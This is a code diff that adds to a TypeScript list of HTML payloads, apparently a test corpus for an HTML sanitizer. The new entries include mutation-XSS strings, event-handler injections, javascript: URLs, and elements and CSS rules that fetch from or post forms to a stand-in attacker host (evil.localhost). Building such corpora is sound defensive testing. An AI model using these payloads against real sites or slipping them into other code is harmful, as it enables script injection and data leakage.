@@ -127,6 +127,59 @@ const FETCHES = [
   `<style>@media all{@supports (color:red){p{background:url(${EVIL}/nested)}}}</style><p>x</p>`,
 ];
 
+/** What looks harmless until it is parsed again, moves by itself, or stands where no handler is looked for. */
+const DISGUISED = [
+  `<svg></p><style><a id="</style><img src=/nowhere onerror=${HARM}>">`,
+  `<noscript><p title="</noscript><img src=/nowhere onerror=${HARM}>"></noscript>`,
+  `<svg><desc><p><style></p></style><img src="/nowhere" onerror="${HARM}"></desc></svg>`,
+  `<frameset><frame src="${EVIL}/frameset"></frameset>`,
+  `<div><template shadowrootmode="open"><img src="${EVIL}/shadow.png"></template></div>`,
+  `<svg><image width="9" height="9"><set attributeName="href" to="${EVIL}/set.png"></set></image></svg>`,
+  `<svg><image width="9" height="9"><animate attributeName="href" values="${EVIL}/a.png;${EVIL}/b.png" dur="1s"></animate></image></svg>`,
+  `<svg><a id="trap"><animate attributeName="href" values="javascript:${HARM};x" dur="9s"></animate><text y="20">x</text></a></svg>`,
+  `<svg><a id="trap"><set attributeName="href" to="${EVIL}/animated"></set><text y="20">x</text></a></svg>`,
+  `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${EVIL}/from-sandbox'</script>"></iframe>`,
+  `<iframe name="victim"></iframe><a id="trap" target="victim" href="javascript:${HARM}">x</a>`,
+  `<form action="${EVIL}/post" method="post" target="_blank"><input name="a" value="b"><button id="trap">x</button></form>`,
+  `<a id="trap" href="${EVIL}/download" download>x</a>`,
+  `<a id="trap" href="ht&#10;tps:${"\\\\"}evil.localhost/backslashes">x</a>`,
+  `<img src="https:${"\\/"}evil.localhost/mixed.png">`,
+  `<img src="&#9;//evil.localhost/tab.png">`,
+  `<script type="importmap">{"imports":{"x":"${EVIL}/map.js"}}</script><script type="module">import "x"</script>`,
+];
+
+/** Handlers of newer elements, and of what moves, scrolls, focuses or shows itself. */
+const NEWER_HANDLERS = [
+  `<input autofocus onfocus="${HARM}">`,
+  `<p tabindex="0" autofocus onfocusin="${HARM}">x</p>`,
+  `<button id="trap" popovertarget="pop">x</button><p popover id="pop" onbeforetoggle="${HARM}">x</p>`,
+  `<button id="trap" commandfor="dialog" command="show-modal">x</button><dialog id="dialog" ontoggle="${HARM}">x</dialog>`,
+  `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${HARM}">x</p>`,
+  `<style>@keyframes k{to{opacity:.5}}</style><odd-name style="display:block;animation:k .01s" onanimationend="${HARM}">x</odd-name>`,
+  `<svg><a id="trap" onclick="${HARM}"><text y="20">x</text></a></svg>`,
+  `<object type="text/html" data="${EVIL}/object"></object>`,
+];
+
+/** More that fetches by itself. */
+const NEWER_FETCHES = [
+  `<link rel="preload" as="image" imagesrcset="${EVIL}/a.png 1x">`,
+  `<video crossorigin="anonymous"><track default kind="captions" src="${EVIL}/a.vtt"></video>`,
+  `<table><tr><td background="${EVIL}/cell.png">x</td></tr></table>`,
+  `<svg><pattern id="p" width="9" height="9"><image href="${EVIL}/pattern.png" width="9" height="9"></image></pattern><rect fill="url(#p)" width="9" height="9"></rect></svg>`,
+  `<style>@import url(${EVIL}/layer.css) layer(x) supports(color:red) screen;</style>`,
+  `<style>@import "data:text/css,p{background:url(${EVIL}/imported)}";</style><p>x</p>`,
+  `<style>p{&:not(b){background:url(${EVIL}/nesting)}}</style><p>x</p>`,
+  `<style>input:valid{background:url(${EVIL}/valid)}</style><input required value="x">`,
+  ...[
+    "--u:url(U);background:var(--u)",
+    "background:-webkit-cross-fade(url(U),url(U),50%)",
+    'background:image-set("U" type("image/png") 1x)',
+    "cursor:url(U),auto",
+    "-webkit-box-reflect:below 0 url(U)",
+    "content:url(U)",
+  ].map((style) => `<p style='${style.replaceAll("U", `${EVIL}/style`)}'>x</p>`),
+];
+
 /** All of them. */
 export const PAYLOADS: readonly string[] = [
   ...STATEMENTS.map((statement) => `<script>${statement}</script>`),
@@ -134,4 +187,7 @@ export const PAYLOADS: readonly string[] = [
   ...HANDLERS,
   ...TRAPS,
   ...FETCHES,
+  ...DISGUISED,
+  ...NEWER_HANDLERS,
+  ...NEWER_FETCHES,
 ];
